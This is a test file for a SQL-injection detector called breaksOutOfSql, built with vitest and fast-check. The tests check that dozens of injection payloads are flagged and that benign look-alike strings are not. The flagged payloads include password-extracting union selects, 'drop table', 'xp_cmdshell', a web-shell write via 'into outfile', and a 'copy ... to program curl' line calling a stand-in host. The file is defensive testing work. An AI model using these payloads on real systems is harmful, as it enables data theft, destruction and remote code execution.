import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { breaksOutOfSql } from '../../../src/inspect/sql/value/break-out.ts';

describe('a value that is put into a statement', () => {
  it.each([
    "' or 1=1 --",
    "' or '1'='1",
    '" or ""="',
    "') or ('a'='a",
    "admin'--",
    "admin' #",
    "admin'/*",
    "x'; drop table users; --",
    '1; drop table users',
    '1; shutdown',
    "'; exec xp_cmdshell('dir') --",
    "'; waitfor delay '0:0:5' --",
    '1 union select null, null, null',
    "-1' union all select 1, concat(user, 0x3a, password) from users #",
    '1/**/union/**/select/**/password/**/from/**/users',
    '1 /*!50000union*/ /*!50000select*/ 1,2,3',
    '1 UnIoN SeLeCt @@version',
    "1' and sleep(5) and '1'='1",
    '1 and (select count(*) from users) > 0',
    '1 or ascii(substring((select password from users limit 1), 1, 1)) > 64',
    "' and extractvalue(1, concat(0x7e, version())) --",
    '1 order by 10 --',
    "' group by id having 1=1 --",
    '1 procedure analyse()',
    "1' into outfile '/var/www/x.php' --",
    "'||(select password from users)||'",
    "'+(select top 1 name from sysobjects)+'",
    '(select 1 from (select sleep(5)) x)',
    '1 rlike (select (case when (1=1) then 1 else 0x28 end))',
    '%27%20or%201%3D1%20--',
    "1'%09or%091=1",
    "'or'1'='1",
    '’ or 1=1 --',
    "' or true --",
    "1' xor 1=1 #",
    '1 && 1=1',
    "' = '",
    "'-0-'",
    '1) or (1=1',
    "1' and 1 in (select 1) --",
    "'; insert into users (name) values ('x') --",
    "'; update users set admin = 1 --",
    "x' and name is not null --",
    '1 limit 1,1 union select 1',
    "\\' or 1=1 --",
    '1 and pg_sleep(5)',
    "1; copy users to program 'curl http://x.example' --",
    'if(now()=sysdate(),sleep(5),0)',
  ])('goes on behind it: %s', (value) => {
    expect(breaksOutOfSql(value)).toBe(true);
  });

  it.each([
    "O'Brien",
    "Jones' and Smith's",
    "the dogs' or cats",
    "rock 'n' roll",
    "I don't like it -- at all",
    'THERE IS NO PLACE LIKE HOME',
    'select a seat from the list',
    'drop table lamp with flowers',
    '10 or less',
    'between 5 and 10 people',
    '3 table lamps, 2 chairs; delivery on Monday',
    'Tom & Jerry',
    'order by Monday, please',
    'union of concerned citizens',
    '5 1/2" screws',
    '4.7" & 5.5"',
    'a=1&b=2',
    'https://example.com/?q=select+a+plan&order=by+date',
    'C# and F#',
    '#general',
    'ticket #42 -- urgent',
    'mail@example.com',
    '2026-01-02',
    '+49 (30) 123456',
    '{"name": "x", "n": 1}',
    'price >= 10 EUR',
    "l'été dernier",
    'x'.repeat(5000),
    'like a rolling stone',
    'where is the exit?',
    'insert coin',
    'update me on Friday',
    'set the table for four',
    'the case when it rains',
    'e-mail (optional)',
    '100%',
    '日本語のテキスト',
  ])('is a value: %s', (value) => {
    expect(breaksOutOfSql(value)).toBe(false);
  });

  it('any text is answered', () => {
    const piece = fc.constantFrom(
      ...'\' " ` ( ) ; -- # /* */ /*! union select from or and 1 = sleep( x , || + - @a 0x41 %27 \\ \0'.split(
        ' ',
      ),
      ' ',
      '\n',
    );
    const text = fc.oneof(
      fc.array(piece, { maxLength: 60 }).map((parts) => parts.join('')),
      fc.array(piece, { maxLength: 60 }).map((parts) => parts.join(' ')),
      fc.string({ unit: 'binary', maxLength: 80 }),
    );
    fc.assert(
      fc.property(text, (value) => {
        expect(typeof breaksOutOfSql(value)).toBe('boolean');
      }),
      { numRuns: 3000 },
    );
  });
});
